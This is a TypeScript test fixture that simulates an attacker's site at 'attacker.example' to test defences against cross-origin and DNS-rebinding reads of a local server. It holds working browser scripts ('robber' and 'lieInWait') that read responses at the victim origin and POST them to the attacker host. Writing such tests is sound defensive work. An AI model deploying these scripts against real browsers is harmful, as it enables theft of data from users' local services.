/** The site of an attacker: pages for the victim's browser, and a server to which they send their loot. */
import { EventEmitter, once } from 'node:events';
import { text } from 'node:stream/consumers';
import { SECOND } from '../../src/util/clock.ts';
import { HttpServer } from './http-server.ts';

/** A name that leads to 127.0.0.1 in the victim's browser (chromium.ts). */
export const ATTACKER = 'attacker.example';
/** A header of all answers of the attacker's servers: without it a page knows that its name leads elsewhere now. */
const OWN_HEADER = 'x-attacker';
/** Characters of the loot that a failed test shows. */
const MAX_SHOWN = 80;
const SENT_WITHIN = 60 * SECOND;

/** A page's report to the attacker. */
export interface Loot {
  readonly what: string;
  readonly got: string;
  /** Name of the script. */
  readonly by?: string;
}

export class AttackerSite implements AsyncDisposable {
  readonly loot: Loot[] = [];
  /** HTML by path. */
  readonly pages: Map<string, string> = new Map();
  /** Redirects by path. */
  readonly redirects: Map<string, string> = new Map();
  readonly #sent = new EventEmitter();
  readonly #server: HttpServer;

  private constructor(server: HttpServer) {
    this.#server = server;
  }

  static async start(): Promise<AttackerSite> {
    const server = await HttpServer.start((_, response) => void response.end());
    const site = new AttackerSite(server);
    server.handler = async (request, response) => {
      response.setHeader('Access-Control-Allow-Origin', '*');
      const { url = '', method } = request;
      const location = site.redirects.get(url);
      if (method === 'POST') site.#note(JSON.parse(await text(request)) as Loot);
      if (location !== undefined) response.writeHead(302, { Location: location });
      else response.writeHead(200, { 'Content-Type': 'text/html' });
      response.end(site.pages.get(url));
    };
    return site;
  }

  /** Origin of its pages. */
  get origin(): string {
    return `http://${ATTACKER}:${new URL(this.#server.url).port}`;
  }

  /** The loot of {@link robber}, in short. */
  get robbed(): readonly string[] {
    const robbed = this.loot.filter(({ by }) => by === 'robber');
    return robbed.map(({ what, got }) => `${what}: ${got.slice(0, MAX_SHOWN)}`);
  }

  /** Waits until a page sends a report of this name. */
  async sent(what: string): Promise<void> {
    const signal = AbortSignal.timeout(SENT_WITHIN);
    while (!this.loot.some((each) => each.what === what)) await once(this.#sent, 'loot', { signal });
  }

  /** A script that sends the text that it reads at its own origin, before its document counts as loaded. */
  robber(targets: readonly string[]): string {
    return `<script>
      document.title = ['script', 'of', location.origin, 'ran'].join(' ');
      const send = (what, got) => {
        const home = new XMLHttpRequest();
        home.open('POST', '${this.origin}/', false);
        home.send(JSON.stringify({ what, got, by: 'robber' }));
      };
      send('origin', location.origin);
      for (const target of ${JSON.stringify(targets)}) {
        const there = new XMLHttpRequest();
        there.open('GET', target, false);
        there.send();
        if (there.status === 200) send(target, there.responseText);
      }
    </script>`;
  }

  /** A server of the attacker's at a port that another server takes soon: its page waits for that, and reads it then. */
  async lieInWait(port: number, targets: readonly string[]): Promise<HttpServer> {
    const page = `<script type="module">
      const send = (what, got) => fetch('${this.origin}/', { method: 'POST', body: JSON.stringify({ what, got }) });
      await send('waiting', location.origin);
      for (;;) {
        const answer = await fetch('/v2/').catch(() => undefined);
        if (answer !== undefined && !answer.headers.has('${OWN_HEADER}')) break;
        await new Promise((resolve) => setTimeout(resolve, 100));
      }
      for (const target of ${JSON.stringify(targets)}) {
        const answer = await fetch(target);
        await send(target, answer.status + ' ' + await answer.text());
      }
      await send('done', '');
    </script>`;
    return HttpServer.start(
      (_, response) => {
        response.writeHead(200, { [OWN_HEADER]: '1', 'Content-Type': 'text/html' }).end(page);
      },
      { port },
    );
  }

  #note(loot: Loot): void {
    this.loot.push(loot);
    this.#sent.emit('loot');
  }

  async [Symbol.asyncDispose](): Promise<void> {
    await this.#server[Symbol.asyncDispose]();
  }
}
